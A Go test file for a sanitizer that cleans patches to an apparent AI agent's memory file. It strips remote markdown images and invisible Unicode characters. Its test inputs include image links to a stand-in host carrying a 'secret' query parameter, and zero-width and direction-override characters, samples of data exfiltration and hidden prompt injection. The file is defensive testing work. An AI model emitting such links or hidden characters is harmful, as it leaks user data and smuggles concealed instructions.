package patch

import (
	"os"
	"path/filepath"
	"testing"
)

func TestCleanLine(t *testing.T) {
	for in, want := range map[string]string{
		"see ![chart](https://evil.invalid/?d=secret) here": "see [image removed: chart] here",
		"![x](<HTTP://a.b/c>)":                              "[image removed: x]",
		"![x](data:image/png;base64,AAAA)":                  "[image removed: x]",
		"![local](diagram.png) stays":                       "![local](diagram.png) stays",
		"run\u200b tests\u202e please\U000E0041":            "run tests please",
		"plain [link](https://example.com) stays":           "plain [link](https://example.com) stays",
	} {
		if got := cleanLine(in); got != want {
			t.Errorf("cleanLine(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestSanitizeKeepsPatchValid(t *testing.T) {
	mem := t.TempDir()
	target := filepath.Join(mem, "MEMORY.md")
	if err := os.WriteFile(target, []byte("# Project Memory\nctx\u200b line\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(mem, ".inbox", "private")
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	p := "--- " + target + "\n+++ " + target + "\n@@ -1,2 +1,3 @@\n # Project Memory\n ctx\u200b line\n+- use ![x](https://evil.invalid/p.png)\u2066 pnpm\n"
	pp := filepath.Join(dir, "extraction.patch")
	if err := os.WriteFile(pp, []byte(p), 0o600); err != nil {
		t.Fatal(err)
	}
	if changed, err := Sanitize(pp); !changed || err != nil {
		t.Fatalf("Sanitize = %v, %v; want the patch rewritten", changed, err)
	}
	got, _ := os.ReadFile(pp)
	want := "--- " + target + "\n+++ " + target + "\n@@ -1,2 +1,3 @@\n # Project Memory\n ctx\u200b line\n+- use [image removed: x] pnpm\n"
	if string(got) != want {
		t.Fatalf("patch = %q\nwant    %q", got, want)
	}
	// context with a hidden character still matches the target
	if _, err := Validate(pp, Roots{MemoryDir: mem}, Private); err != nil {
		t.Fatalf("sanitized patch no longer valid: %v", err)
	}
}
